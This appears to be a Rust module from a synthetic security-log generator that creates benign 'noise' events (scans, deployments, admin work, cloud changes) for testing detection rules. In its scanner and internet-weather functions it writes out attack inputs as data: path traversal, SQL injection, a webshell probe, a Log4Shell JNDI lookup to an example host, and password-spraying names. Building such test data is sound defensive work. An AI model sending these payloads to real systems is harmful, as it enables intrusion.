//! Noise: work of the house and weather of the internet on which rules of low and medium level rightly speak, and
//! which belong to no attack. They share hosts, accounts and hours with the attacks.

use serde_json::{Value, json};

use super::aws::{Account, CLI, Call, Caller};
use super::clock::{At, at};
use super::entra::Tenant;
use super::kubernetes::{Cluster, Request};
use super::linux::Web;
use super::log::{Mark, Side};
use super::network::{Conn, Sensors, ShareFile};
use super::ransomware::{POWERSHELL, child, encoded};
use super::windows::{Host, Logon, SYSTEM, Start, log_cleared};
use super::windows_life::{Desk, group_member_added};
use super::world::*;

fn noise(id: &'static str, what: &'static str, rules: &'static [&'static str]) -> Mark {
    Mark { side: Side::Noise(id), stage: "", technique: "", what, rules }
}

/// Wednesday, 03:00: the vulnerability scanner is loud, from inside, and gets nowhere.
pub fn scan(web: &mut Web, bo: &mut Host, net: &mut Sensors) {
    let id = "vulnerability-scan";
    let union =
        noise(id, "a test for SQL injection by the scanner", &["webserver/access/sql_injection_attempt"]);
    let t = at(2, 3, 0, 0);
    for i in 0..130 {
        let (line, status) = match i % 13 {
            0 => ("GET /../../../../etc/passwd".to_owned(), 400),
            1 => ("GET /product?id=1%20UNION%20SELECT%201,2".to_owned(), 200),
            2 => ("GET /uploads/c99.php?cmd=id".to_owned(), 404),
            _ => (format!("GET /scan{i}/"), 404),
        };
        let mark = (status == 200).then_some(&union);
        web.request(t.plus_ms(i * 700), SCANNER, &line, (status, 162), "HouseScan/3.1", mark);
    }
    let key = "Accepted publickey for svc-scan from 10.30.9.8 port 40022 ssh2: RSA SHA256:9kQpZb1oTq8c0mVw7dYx5LrJ2hNf4EuAq3sKe6tBiGM";
    web.auth(t.plus_s(120), "sshd[31990]", key, None);
    let sudo = noise(id, "the scanner asks whether it may use sudo", &["linux/sudo/user_not_in_sudoers"]);
    let text =
        "svc-scan : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/svc-scan ; USER=root ; COMMAND=/usr/bin/id";
    web.auth(t.plus_s(131), "sudo", text, Some(&sudo));
    let text = "pam_unix(sshd:session): session closed for user svc-scan";
    web.auth(t.plus_s(150), "sshd[31990]", text, None);
    let ports = noise(id, "the scanner tries ports of the web server", &["firewall/traffic/port_scan"]);
    for port in 0..26 {
        net.refused(
            t.plus_s(60 + port * 3),
            "scan",
            SCANNER,
            (WEB.address, 7000 + port as u16 * 11),
            Some(&ports),
        );
    }
    let probe = (9_000_010, "LOCAL Scanner probe", "Attempted Information Leak", 2);
    let told = noise(id, "the sensor tells the scanner's probe", &[]);
    net.alert(t.plus_s(120), SCANNER, (WEB.address, 80), probe, Some(&told));
    let tries = noise(id, "the scanner tries default names", &["windows/security/password_spraying"]);
    let ntlm = |user: &'static str| Logon {
        user,
        domain: "",
        sid: "S-1-0-0".into(),
        kind: 3,
        process: "NtLmSsp ",
        package: "NTLM",
        workstation: "SCAN1",
        address: SCANNER,
    };
    let names = ["admin", "guest1", "test", "oracle", "sa", "root", "operator", "support", "backup"];
    for (i, name) in names.into_iter().enumerate() {
        bo.failed_logon(at(2, 3, 20, 0).plus_s(i as i64 * 3), &ntlm(name), true, Some(&tries));
    }
    let real = Logon {
        process: "NtLmSsp ",
        package: "NTLM",
        workstation: "SCAN1",
        ..Logon::over_the_network(&SVC_SCAN, SCANNER)
    };
    bo.logon(at(2, 3, 20, 40), &real, Some(30), None);
}

/// Wednesday, 08:20 to 08:40: new software for a desk, by the same means that intruders use.
pub fn deployment(host: &mut Host, desk: &Desk, net: &mut Sensors, minute: i64) {
    let id = "software-deployment";
    let t = at(2, 8, minute, 5);
    let session = host.logon(t, &Logon::over_the_network(&SVC_DEPLOY, DEPLOY_SERVER), Some(400), None);
    host.privileges(t.plus_ms(3), &SVC_DEPLOY, &session, None);
    let who = (&SVC_DEPLOY, session.as_str(), DEPLOY_SERVER);
    let written =
        noise(id, "the deployment writes its helper", &["windows/security/program_written_to_admin_share"]);
    let file = ("ADMIN$", "\\??\\C:\\Windows", "PAExec-4410-DEPLOY1.exe");
    host.share_opened(t.plus_ms(200), who, file, true, Some(&written));
    let wire = noise(id, "the same on the wire", &["zeek/smb_files/program_to_admin_share"]);
    let share = format!("\\\\{}\\ADMIN$", host.machine.name);
    let file = ShareFile { share: &share, name: "PAExec-4410-DEPLOY1.exe", bytes: 383_872, before: "" };
    let to = host.machine.address;
    net.share_file(t.plus_ms(190), DEPLOY_SERVER, to, "SMB::FILE_OPEN", file, Some(&wire));
    let control =
        noise(id, "and asks the service control manager", &["windows/security/service_control_pipe_opened"]);
    host.share_opened(t.plus_ms(500), who, ("IPC$", "", "svcctl"), true, Some(&control));
    let service = noise(id, "for a service", &["windows/system/remote_execution_service"]);
    host.installs_service(
        t.plus_ms(800),
        "PAExec-4410-DEPLOY1",
        "C:\\Windows\\PAExec-4410-DEPLOY1.exe -service",
        "demand start",
        Some(&service),
    );
    let image = "C:\\Windows\\PAExec-4410-DEPLOY1.exe";
    let helper = host.start(t.plus_ms(1_100), &child(image, image, &desk.services, "System"), None);
    let script = "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select-Object DisplayName, DisplayVersion";
    let command = format!("powershell.exe -NoProfile -NonInteractive -EncodedCommand {}", encoded(script));
    let asks = noise(
        id,
        "the deployment asks what is installed",
        &["windows/process_creation/powershell_encoded_command"],
    );
    host.start(t.plus_s(3), &child(POWERSHELL, &command, &helper, "System"), Some(&asks));
    let image = "C:\\Windows\\System32\\msiexec.exe";
    let command = "msiexec.exe /i \\\\TB-FS-01\\software\\reader-24.msi /qn /norestart";
    host.start(t.plus_s(9), &child(image, command, &helper, "System"), None);
}

/// Wednesday, 08:48: the administrator looks at Bo's desk by hand.
pub fn inventory(bo: &mut Host, desk: &Desk) {
    let mark = noise(
        "administrator-at-work",
        "the administrator looks around on a slow machine",
        &["windows/process_creation/discovery_burst"],
    );
    let machine = bo.machine;
    let t = at(2, 8, 48, 20);
    let rdp = Logon { kind: 10, address: ADMIN_NETWORK, ..Logon::at_the_desk(&ADM_PIET, &machine, 10) };
    let session = bo.logon(t, &rdp, Some(1300), None);
    bo.privileges(t.plus_ms(2), &ADM_PIET, &session, None);
    let start = Start {
        image: "C:\\Windows\\System32\\cmd.exe",
        command: "\"C:\\Windows\\system32\\cmd.exe\"",
        parent: &desk.svchost,
        user: ADM_PIET.account(),
        logon: &session,
        integrity: "High",
    };
    let shell = bo.start(t.plus_s(40), &start, None);
    let questions = [
        ("systeminfo.exe", "systeminfo"),
        ("quser.exe", "quser"),
        ("net.exe", "net user bo /domain"),
        ("ipconfig.exe", "ipconfig /all"),
        ("whoami.exe", "whoami"),
    ];
    for (i, (name, command)) in questions.into_iter().enumerate() {
        let image = format!("C:\\Windows\\System32\\{name}");
        let t = t.plus_s(60 + i as i64 * 35);
        bo.start(t, &child(&image, command, &shell, "High"), Some(&mark));
    }
}

/// Wednesday, 22:05: the backup server still has last month's password; at 22:20 somebody mends it, and the copy to
/// the vault outside catches up in one go.
pub fn failed_backup(fs: &mut Host, net: &mut Sensors) {
    let failed = noise("failed-backup", "the backup signs on with an old password", &[]);
    for i in 0..9 {
        let who = Logon {
            process: "NtLmSsp ",
            package: "NTLM",
            workstation: "BACKUP1",
            ..Logon::over_the_network(&SVC_BACKUP, BACKUP_SERVER)
        };
        fs.failed_logon(at(2, 22, 5, 0).plus_s(i * 30), &who, false, Some(&failed));
    }
    let caught_up = noise(
        "failed-backup",
        "the copy to the vault outside catches up",
        &["zeek/conn/large_upload_to_internet"],
    );
    for part in 0..6 {
        let c = Conn {
            from: BACKUP_SERVER,
            to: "198.51.100.77",
            port: 443,
            service: "ssl",
            sent: 121_000_000 + part * 90_417,
            received: 230_000,
            seconds: 400,
        };
        net.connection(at(2, 22, 25, 8).plus_s(part * 420), &c, Some(&caught_up));
    }
}

/// Wednesday, 15:20: the new colleague may restore files.
pub fn group_change(dc: &mut Host) {
    let mark = noise(
        "group-change",
        "the new colleague is to restore files",
        &["windows/security/privileged_group_member_added"],
    );
    let t = at(2, 15, 20, 4);
    let logon = Logon::over_the_network(&ADM_PIET, ADMIN_NETWORK);
    let session = dc.logon(t.plus_s(-30), &logon, Some(600), None);
    dc.privileges(t.plus_s(-30).plus_ms(2), &ADM_PIET, &session, None);
    let by = (&ADM_PIET, session.as_str());
    group_member_added(dc, t, by, 1140, ("Backup Operators", "S-1-5-32-551"), Some(&mark));
}

/// Wednesday, 16:10: a full Application log on Eva's desk is emptied.
pub fn full_log(eva: &mut Host) {
    let mark = noise("administrator-at-work", "a full log is emptied", &["windows/system/event_log_cleared"]);
    let kind = super::windows::Kind { channel: SYSTEM, id: 104, version: 0, ..log_cleared() };
    let data = vec![
        ("SubjectUserName", json!(ADM_PIET.user)),
        ("SubjectDomainName", json!(NETBIOS)),
        ("Channel", json!("Application")),
        ("BackupPath", json!("")),
    ];
    eva.put(at(2, 16, 10, 22), kind, data, Some(&mark));
}

/// Wednesday: what administrators do in the cloud.
pub fn cloud(aws: &mut Account) {
    let rotation = noise(
        "key-rotation",
        "the administrator renews a key of the mailer",
        &["aws/cloudtrail/access_key_made_for_another_user"],
    );
    let administrator =
        Caller::Role("AWSReservedSSO_Administrator_4f1c9a77b2e0d355", "piet.maas@tarnbeck.example");
    let call = |caller, service, name, agent, request, response| Call {
        caller,
        service,
        name,
        read_only: false,
        from: OFFICE,
        agent,
        request,
        response,
        error: None,
    };
    let made = json!({ "accessKey": { "userName": "svc-mailer", "accessKeyId": "AKIA3MAILER2026RENEW", "status": "Active", "createDate": "Mar 4, 2026, 9:31:08 AM" } });
    let request = json!({ "userName": "svc-mailer" });
    let iam = "iam.amazonaws.com";
    let renewed = call(administrator, iam, "CreateAccessKey", CLI, request, made);
    aws.call(at(2, 9, 31, 8), renewed, Some(&rotation));
    let glass = noise(
        "emergency-account",
        "the yearly renewal of the emergency account",
        &["aws/cloudtrail/administrator_policy_attached"],
    );
    let request =
        json!({ "userName": "emergency-1", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess" });
    let attached = call(administrator, iam, "AttachUserPolicy", CLI, request, Value::Null);
    aws.call(at(2, 11, 14, 40), attached, Some(&glass));
    let console = noise(
        "console-sign-in",
        "Eva signs in to see the bill, without a second factor",
        &["aws/cloudtrail/console_login_without_mfa"],
    );
    let browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36";
    let answer = json!({ "ConsoleLogin": "Success" });
    let (eva, name) = (Caller::User("eva.roos"), "ConsoleLogin");
    let signed = call(eva, "signin.amazonaws.com", name, browser, Value::Null, answer);
    aws.call(at(2, 10, 5, 51), signed, Some(&console));
}

/// Wednesday, 11:20: Bo looks into his pod; 14:30: he renews the secret of his application.
pub fn developer(cluster: &mut Cluster, entra: &mut Tenant) {
    let exec =
        noise("pod-shell", "Bo looks into the pod that he builds", &["kubernetes/audit/exec_into_pod"]);
    let request = Request {
        user: "bo.lindqvist@tarnbeck.example",
        from: WS_BO.address,
        agent: "kubectl/v1.32.2 (windows/amd64)",
        verb: "create",
        uri: "/api/v1/namespaces/shop/pods/web-7c9f/exec?command=sh&stdin=true&tty=true",
        object: ("pods", "exec", "shop", "web-7c9f"),
        group: "",
        code: 101,
        body: Value::Null,
        extra: Value::Null,
    };
    cluster.request(at(2, 11, 20, 33), &request, Some(&exec));
    let renewed = noise(
        "secret-renewal",
        "the owner renews the secret of an application",
        &["azure/auditlogs/application_credential_added"],
    );
    let app = json!({ "id": "1d0e6f52-7a31-4a0b-9a55-6c2f8e4b7d10", "displayName": "Shop Mailer", "type": "ServicePrincipal", "userPrincipalName": null, "groupType": null, "modifiedProperties": [{ "displayName": "KeyDescription", "oldValue": "[]", "newValue": "[\"[KeyIdentifier=77aa,KeyType=Password,KeyUsage=Verify,DisplayName=2026]\"]" }] });
    let activity = "Update application – Certificates and secrets management ";
    let what = (activity, "Core Directory", "ApplicationManagement");
    entra.audit(at(2, 14, 30, 12), what, (&BO, OFFICE), app, Some(&renewed));
}

/// Wednesday, all day: what knocks from outside, and what sensors get wrong.
pub fn weather(web: &mut Web, net: &mut Sensors) {
    let id = "internet-weather";
    let log4shell = noise(id, "a try at a library that is not here", &["webserver/access/log4shell_attempt"]);
    let line = "GET /?q=${jndi:ldap://survey.example.net/a}";
    web.request(at(2, 13, 2, 9), "198.51.100.131", line, (404, 162), "Mozilla/5.0", Some(&log4shell));
    let tool = noise(id, "a tool that names itself", &["webserver/access/attack_tool_user_agent"]);
    for i in 0..6 {
        let t = at(2, 10, 33, 40).plus_s(i * 4);
        let line = format!("GET /cgi-bin/test{i}.cgi");
        web.request(t, "198.51.100.140", &line, (404, 162), "Mozilla/5.00 (Nikto/2.5.0)", Some(&tool));
    }
    // Passwords are guessed, none is right: the rule about guessing speaks only when one was.
    for i in 0..14 {
        let t: At = at(2, 12, 40, 0).plus_s(i * 11);
        let text =
            format!("Failed password for invalid user admin{i} from 198.51.100.152 port {} ssh2", 40_100 + i);
        web.auth(t, &format!("sshd[{}]", 8_800 + i), &text, None);
    }
    let remark = noise("sensor-remark", "the sensor tells an update of packages", &[]);
    let signature = (9_000_002, "LOCAL Package manager user agent", "Not Suspicious Traffic", 3);
    net.alert(at(2, 13, 40, 22), "10.30.4.31", ("198.51.100.92", 80), signature, Some(&remark));
    let alarm = noise(
        "sensor-false-alarm",
        "an update looks like a beacon to the sensor",
        &["suricata/eve/trojan_alert_let_through"],
    );
    let signature =
        (9_000_003, "LOCAL Regular small requests", "Malware Command and Control Activity Detected", 2);
    net.alert(at(2, 11, 31, 18), WS_EVA.address, ("198.51.100.92", 443), signature, Some(&alarm));
    let mail =
        noise("mail-check", "the mail gateway looks files up by digest", &["dns/query/long_text_answer"]);
    for i in 0..4 {
        let name = format!("{}.lookup.example.net", net.random.hex(40));
        net.query(at(2, 9, 14, 3).plus_s(i * 5400), "10.30.1.25", &name, "TXT", "clean", Some(&mail));
    }
}
